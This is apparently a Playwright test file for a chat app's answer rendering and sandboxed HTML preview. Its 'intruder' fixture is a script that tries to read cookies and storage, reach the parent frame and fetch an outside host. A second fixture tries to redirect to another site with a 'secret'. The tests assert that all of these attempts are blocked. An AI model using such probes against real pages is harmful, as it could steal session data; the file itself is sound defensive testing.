"""What an answer can contain: formulas, diagrams, code, tables, previews and evidence."""

import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests import wire
from tests.browser.conftest import use_model
from tests.browser.conversation import (
    ask_and_wait,
    choose_from_menu,
    html,
    last_run,
    number_in,
)
from tests.browser.server import Server
from tests.browser.test_accessibility import faults

RICH = r"""The area is \(A = \pi r^2\), for $5 or $6, but \(\frac{1\) is broken.

\[
\int_0^1 x\,dx
= \frac{1}{2}
\]

- [x] Done

| Region | Growth | Note | Text |
|:--|--:|--|--|
| Osaka | -2.5% | =SUM(A1) | a "b", c |
| Kobe | ＋1 | ＝SUM(A1) | d |

A note[^1].

```mermaid
flowchart LR
  A[Question] --> B[Answer]
```

```python
# report.py
print("one")
```

[^1]: The *source*.
"""
BROKEN = "```mermaid\nflowchart LR\n A -->|x B\n end end\n```\n"
# Each line says what a previewed page could do; nothing may be "yes".
INTRUDER = """```html
<p id="result">running</p>
<script>
const sheet = Object.assign(document.createElement("link"), { rel: "stylesheet" });
const tries = {
  cookies: () => document.cookie.length >= 0,
  storage: () => Boolean(localStorage),
  parent: () => Boolean(parent.document),
  top: () => { top.location = "/login/"; return "ends" in top; },
  request: () => fetch("/account/").then(() => true),
  foreign: () => fetch("http://203.0.113.7/").then(() => true),
  beacon: () => navigator.sendBeacon("/account/", "x") && false,
  image: () => load(new Image(), "src", "/static/img/favicon.svg"),
  script: () => load(document.createElement("script"), "src", "/static/js/theme.js"),
  style: () => load(sheet, "href", "/static/css/base.css"),
  worker: () => Boolean(new Worker("/static/js/theme.js")) && false,
};
function load(element, name, url) {
  return new Promise((resolve, reject) => {
    element.onload = () => resolve(true);
    element.onerror = reject;
    element[name] = url;
    document.body.append(element);
  });
}
(async () => {
  const found = [];
  for (const [name, attempt] of Object.entries(tries)) {
    let is = false;
    try { is = await attempt(); } catch {}
    found.push(`${name}: ${is ? "yes" : "no"}`);
  }
  document.getElementById("result").textContent = found.join(", ");
})();
</script>
```
"""
ATTEMPTED = ("/account/", "/favicon.svg", "/theme.js", "/base.css")
LEAVING = """```html
<p>leaving</p><script>location.href = "http://127.0.0.1:{port}/?secret";</script>
```
"""
ANSWERS = {"rich": RICH, "broken": BROKEN, "intruder": INTRUDER}
HIGHLIGHTED = "() => [...(CSS.highlights.get('evidence') ?? [])].map(String)"
CITED = """12.5% of 3,480 is **435** [1]. Elephants are the largest land animals of Africa.

| Share | Sum |
|---|---|
| 12.5% | 435 |
"""


@pytest.fixture(scope="module")
def writer(start_server) -> Iterator[Server]:
    """A server whose model answers with the text that the question names."""

    def answer(request: wire.Request) -> wire.Reply:
        last = request.body["messages"][-1]
        if last["role"] == "tool":
            return wire.say(CITED)
        if last["content"] == "calculate":
            return wire.call(("calculator", '{"expression": "3480 * 0.125"}'))
        name, _, port = last["content"].partition(" ")
        text = (
            LEAVING.replace("{port}", port)
            if name == "leaving"
            else ANSWERS.get(name, "A title")
        )
        return wire.say(text)

    with wire.serve_in_thread(answer) as model:
        yield from start_server("writer", 0, **use_model(model.url))


@pytest.fixture
def page(visit, writer) -> Page:
    return visit(writer)


def answer_html(page: Page) -> str:
    """Return the answer without the names that KaTeX and a diagram's drawing give."""
    return re.sub(r' src="data:[^"]*"', "", html(last_run(page).locator(".answer")))


@pytest.mark.journey
def test_an_answer_has_formulas_diagrams_and_tables_live_and_reloaded_alike(page: Page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    run = ask_and_wait(page, "rich")

    expect(run.locator(".katex-html")).to_have_count(2)
    expect(run.locator('[data-math="failed"]')).to_have_text(r"\(\frac{1\)")
    expect(run.locator("li.task")).to_have_text("☑ Done")
    image = run.locator(".diagram img")
    expect(image).to_be_visible()
    assert image.evaluate("image => image.naturalWidth") > 100
    watched = answer_html(page)
    run.get_by_role("button", name="Copy as CSV").click()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied.splitlines() == [
        "Region,Growth,Note,Text",
        'Osaka,-2.5%,\'=SUM(A1),"a ""b"", c"',
        "Kobe,'＋1,'＝SUM(A1),d",
    ]
    assert faults(page) == []

    page.reload()
    expect(last_run(page).locator(".katex-html")).to_have_count(2)
    expect(last_run(page).locator(".diagram img")).to_be_visible()
    assert answer_html(page) == watched


def test_code_can_be_wrapped_copied_and_downloaded(page: Page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    run = ask_and_wait(page, "rich")
    block = run.locator(".code-block", has_text="report.py")

    expect(block.locator(".code-language")).to_have_text("Python")
    block.get_by_role("button", name="Copy").click()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied == '# report.py\nprint("one")\n'
    with page.expect_download() as download:
        block.get_by_role("button", name="Download").click()
    assert download.value.suggested_filename == "report.py"
    assert Path(download.value.path()).read_text() == copied
    block.get_by_role("button", name="Wrap lines").click()
    page.reload()
    wrap = last_run(page).locator(".code-block").last.get_by_role("button", name="Wrap lines")
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert (
        last_run(page)
        .locator("code")
        .last.evaluate("code => getComputedStyle(code).whiteSpace")
        == "pre-wrap"
    )


def test_copied_as_text_an_answer_has_no_buttons_and_its_formulas_source(page: Page):
    run = ask_and_wait(page, "rich")
    expect(run.locator(".katex-html")).to_have_count(2)
    read = """async answer => (await import("/static/js/prose_text.js")).readableText(answer)"""
    text = run.locator(".answer").evaluate(read)

    assert text.startswith(
        r"The area is \(A = \pi r^2\), for $5 or $6, but \(\frac{1\) is broken."
    )
    assert "flowchart LR" in text
    assert 'print("one")' in text
    assert not any(label in text for label in ("CSV", "Python", "Diagram"))


def test_a_diagram_with_an_error_shows_its_source_and_why(page: Page):
    run = ask_and_wait(page, "broken")

    expect(run.locator(".diagram-note")).to_contain_text(
        "couldn’t be drawn: Parse error on line"
    )
    expect(run.locator("code")).to_be_visible()
    expect(run.get_by_role("button", name="Diagram")).to_have_count(0)


def test_a_diagram_follows_the_theme_and_opens_in_the_side_panel(page: Page):
    run = ask_and_wait(page, "rich")
    image = run.locator(".diagram img")
    light = image.get_attribute("src")
    page.locator(".account-button").click()
    page.locator("label:has([name=theme][value=dark])").click()
    page.keyboard.press("Escape")

    expect(image).not_to_have_attribute("src", light)
    run.get_by_role("button", name="Open in side panel").click()
    expect(page.locator("#side-panel img")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#side-panel")).to_be_hidden()


def test_a_previewed_page_reaches_no_network_no_cookies_and_no_parent(page: Page, watch):
    watch.expect(
        r"Content Security Policy|sandbox|ERR_BLOCKED_BY_CSP|csp|203\.0\.113\.7|Unsafe attempt"
    )
    run = ask_and_wait(page, "intruder")
    answered: list[str] = []
    page.context.on("response", lambda response: answered.append(response.url))
    run.get_by_role("button", name="Preview").click()
    result = page.frame_locator("#side-panel iframe").locator("#result")

    expect(result).to_contain_text("worker:")
    assert "yes" not in result.inner_text()
    assert "/chat/" in page.url
    note = page.locator("#side-panel .side-panel-note")
    expect(note).to_contain_text("network, cookies and storage don’t work")
    frame = next(frame for frame in page.frames if frame.url.endswith("/sandbox/preview/"))
    assert frame.evaluate("self.origin") == "null"
    assert any(url.endswith("/sandbox/preview/") for url in answered)
    assert not [url for url in answered if url.endswith(ATTEMPTED) or "203.0.113" in url]


def test_a_previewed_page_cannot_leave_for_another_site(page: Page, watch):
    watch.expect("Content Security Policy|ERR_BLOCKED_BY_CSP|foreign request")
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        run = ask_and_wait(page, f"leaving {elsewhere.getsockname()[1]}")
        run.get_by_role("button", name="Preview").click()
        frame = page.locator("#side-panel iframe").element_handle().content_frame()
        frame.wait_for_url(re.compile("^chrome-error:"), wait_until="commit")
        elsewhere.setblocking(False)

        with pytest.raises(BlockingIOError):  # nobody came
            elsewhere.accept()


def test_an_answer_links_to_its_observations(page: Page):
    run = ask_and_wait(page, "calculate")
    cited = run.get_by_role("link", name="Source 1: Calculator").first

    cited.hover()
    expect(page.get_by_role("tooltip")).to_contain_text("435")
    page.keyboard.press("Escape")
    expect(page.get_by_role("tooltip")).to_have_count(0)
    cited.click()
    expect(page.locator("#side-panel .payload").last).to_contain_text("435")
    page.wait_for_function("() => CSS.highlights.get('evidence')?.size")
    assert page.evaluate(HIGHLIGHTED) == ["435"]
    page.keyboard.press("Escape")
    expect(run.locator(".answer tr a.cite")).to_have_count(1)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    run.get_by_role("button", name="Copy as CSV").click()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied.splitlines() == ["Share,Sum", "12.5%,435"]

    choose_from_menu(run, "Unsourced statements")
    expect(run.locator(".evidence-note")).to_contain_text("aren’t in any result")
    assert faults(page) == []
    watched = html(run.locator(".answer"))
    page.reload()
    expect(last_run(page).locator(".evidence-note")).to_be_visible()
    assert html(last_run(page).locator(".answer")) == watched
    assert last_run(page).locator(".unsupported").inner_text().startswith("Elephants")

    page.goto(f"/traces/{last_run(page).get_attribute('id').removeprefix('run-')}/")
    last_run(page).get_by_role("link", name="Source 1: Calculator").first.click()
    expect(page).to_have_url(re.compile(r"/traces/\d+/#step-2$"))
    expect(page.locator("#step-2 summary")).to_have_attribute("aria-current", "true")
    page.wait_for_function("() => CSS.highlights.get('evidence')?.size")
    assert "435" in page.evaluate(HIGHLIGHTED)[0]


def test_on_a_phone_a_tap_explains_and_a_second_one_opens(visit, writer):
    options = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
    phone = visit(writer, **options, locale="ja-JP")
    phone.goto("/")
    phone.locator("#text").fill("calculate")
    phone.locator("button.send").tap()
    run = last_run(phone)
    expect(run).to_have_attribute("data-status", "completed")
    link = run.locator("a.cite").first

    link.tap()
    expect(phone.get_by_role("tooltip")).to_contain_text("3480 * 0.125")
    assert number_in(phone)
    link.tap()
    expect(phone.locator("#side-panel .payload").last).to_contain_text("435")
